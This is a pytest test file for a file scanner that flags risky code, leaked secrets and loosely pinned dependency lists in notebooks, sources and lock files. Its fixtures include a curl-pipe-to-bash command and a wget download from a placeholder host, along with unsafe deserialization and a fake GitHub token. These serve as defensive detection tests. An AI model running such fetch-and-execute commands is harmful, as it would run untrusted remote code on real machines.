"""Notebooks, sources, secrets and lists of packages, through the scanner like any other file."""

import json

import pytest

from strongroom.assess.scanner import Limits, scan_bytes
from strongroom.assess.scanner.formats.secrets import SEARCHED
from strongroom.assess.scanner.formats.texts import WHOLE
from strongroom.assess.scanner.report import Rating

TOKEN = "ghp" + "_16C7e42F292c6912E7710c838347Ae178B4a"
ZEROS = "0" * 64
HASH = f" --hash=sha256:{ZEROS}"


def notebook(*cells, **metadata):
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells})


def code(source, *outputs):
    return {"cell_type": "code", "source": source, "outputs": list(outputs)}


def rules(data, name):
    report = scan_bytes(data.encode() if isinstance(data, str) else data, name)
    return report, {h.rule for h in report.findings if h.rating is not Rating.CLEAN}


def test_a_notebook_is_read_cell_by_cell():
    text = notebook(
        code(["import pickle\n", "x = pickle.load(f)"]),
        code("!curl -s https://x.example/i.sh | bash"),
        code("%%bash\nwget https://x.example/m.bin"),
        code("%pip install foo\nfiles = !ls\nx?"),
        {"cell_type": "markdown", "source": f"my token is {TOKEN}"},
        code("print(1)", {"output_type": "stream", "text": [f"token {TOKEN}\n"]}),
    )
    report, found = rules(text, "a.ipynb")
    wanted = {"code.unsafe_load", "code.shell_pipe", "code.shell_download", "code.pip_unpinned"}
    assert wanted | {"secret.github_token"} == found
    assert (report.format, report.verdict) == ("notebook", Rating.BLOCK)
    assert TOKEN not in repr(report)
    assert any(h.message.startswith("cell 1, line 2: ") for h in report.findings)
    assert any(h.message.startswith("cell 6, output line 1: ") for h in report.findings)


def test_images_of_any_size_are_passed_over_and_the_code_is_not():
    image = {"output_type": "display_data", "data": {"image/png": "iVBOR" * 2_000_000}}
    text = notebook(code("x = 1", image), code("import joblib\njoblib.load(f)"))
    assert len(text) > WHOLE
    assert rules(text, "a.ipynb")[1] == {"code.unsafe_load"}


@pytest.mark.parametrize(
    "text",
    ["", "{", "[]", "null", '{"cells": 5}', '{"cells": [5]}', "[" * 100_000,
     notebook(code("print 'old'")), notebook(code("x"), language_info={"name": "R"}),
     '{"cells": [' + "{}," * 2_900_000],
    ids=lambda text: text[:12] or "empty",
)  # fmt: skip
def test_a_notebook_that_cannot_be_read_is_unknown(text):
    report, _ = rules(text, "a.ipynb")
    assert report.verdict is Rating.UNKNOWN or report.format == "empty"


@pytest.mark.parametrize(
    "metadata",
    [{"language_info": 5}, {"language_info": ["name"]}, {"kernelspec": {"language": 5}}],
    ids=["number", "list", "inner"],
)
def test_metadata_of_a_wrong_shape_does_not_stop_the_reading(metadata):
    text = notebook(code("eval(x)"), **metadata)
    assert "code.eval" in rules(text, "a.ipynb")[1]


@pytest.mark.parametrize("start", ["", "\ufeff"], ids=["plain", "bom"])
@pytest.mark.parametrize("end", ["\n", "\r\n"], ids=["lf", "crlf"])
def test_source_is_read_with_any_line_ends(start, end):
    text = start + end.join(["import pickle", f"t = '{TOKEN}'", "pickle.load(f)", ""])
    assert rules(text, "a.py")[1] == {"code.unsafe_load", "secret.github_token"}


def test_source_that_does_not_parse_is_unknown():
    report, found = rules("print 'x'\n", "a.py")
    assert (report.verdict, found) == (Rating.UNKNOWN, {"code.unparsed"})


def test_secrets_are_redacted_in_the_line_that_another_rule_shows():
    text = f"import requests\nrequests.get('https://x', headers='{TOKEN}', verify=False)\n"
    report, found = rules(text, "a.py")
    assert "code.tls_unchecked" in found
    assert TOKEN not in json.dumps(report.to_dict())


@pytest.mark.slow
def test_a_text_too_long_to_be_searched_whole_says_so():
    text = b"line of a table\n" * (3 * 2**20)
    report = scan_bytes(text, "a.log")
    assert report.verdict is Rating.CLEAN
    assert [h.message for h in report.findings if h.rule == "limit.secrets"] == [
        f"secrets were looked for in its first {WHOLE + SEARCHED} bytes only"
    ]


@pytest.mark.slow
def test_a_secret_far_into_a_long_file_is_found():
    text = "line\n" * 2_000_000 + f"token: {TOKEN}\n"
    report = scan_bytes(text.encode(), "a.log", Limits())
    assert "line 2000001" in report.findings[0].message


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("a==1\n", "dependencies.no_hash"),
        ("a>=1\n", "dependencies.unpinned"),
        (f"a==1{HASH}\n--extra-index-url https://x.example\n", "dependencies.second_source"),
        ("git+https://x.example/a@main\n", "dependencies.direct"),
        ("-e ./here\n", "dependencies.direct"),
        (f"-r other.txt\na==1{HASH}\n", "dependencies.included_file"),
        ("a @ https://x.example/a.whl ; python_version > '3'\n", "dependencies.direct"),
        (b"\xff\xfea\x00==\x001\x00", "format.unknown"),
    ],
)
def test_a_loose_list_of_packages_is_named(text, rule):
    assert rule in rules(text, "requirements.txt")[1]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("requirements.txt", f"a==1 \\\n   {HASH}  # why\nb==2 ; python_version>'3'{HASH}\n"),
        ("poetry.lock",
         '[[package]]\nname="a"\nversion="1"\nfiles=[{hash="sha256:%s"}]' .replace("%s", ZEROS)),
        ("uv.lock",
         '[[package]]\nname="a"\nversion="1"\nsdist={hash="sha256:%s"}' .replace("%s", ZEROS)),
        ("pylock.toml",
         '[[packages]]\nname="a"\nversion="1"\nwheels=[{hashes={sha256="%s"}}]' .replace("%s", ZEROS)),  # noqa: E501
        ("Pipfile.lock",
         '{"default":{"a":{"version":"==1","hashes":["sha256:%s"]}}}' .replace("%s", ZEROS)),
        ("METADATA", "Metadata-Version: 2.1\nName: a\nVersion: 1\nLicense: MIT\n\ntext"),
    ],
    ids=lambda v: v if len(v) < 20 else "",
)  # fmt: skip
def test_a_tight_list_of_packages_is_clean_and_says_what_was_not_asked(name, text):
    report, found = rules(text, name)
    assert found == set()
    assert "dependencies.advisories_unchecked" in {h.rule for h in report.findings}


@pytest.mark.parametrize("name", ["poetry.lock", "pylock.toml", "Pipfile.lock"])
@pytest.mark.parametrize(
    "text", ["= =", "[" * 5_000, "package = 5\npackages = 5\n", '{"default": 5}']
)
def test_a_broken_lock_is_unknown(name, text):
    assert rules(text, name)[0].verdict is Rating.UNKNOWN
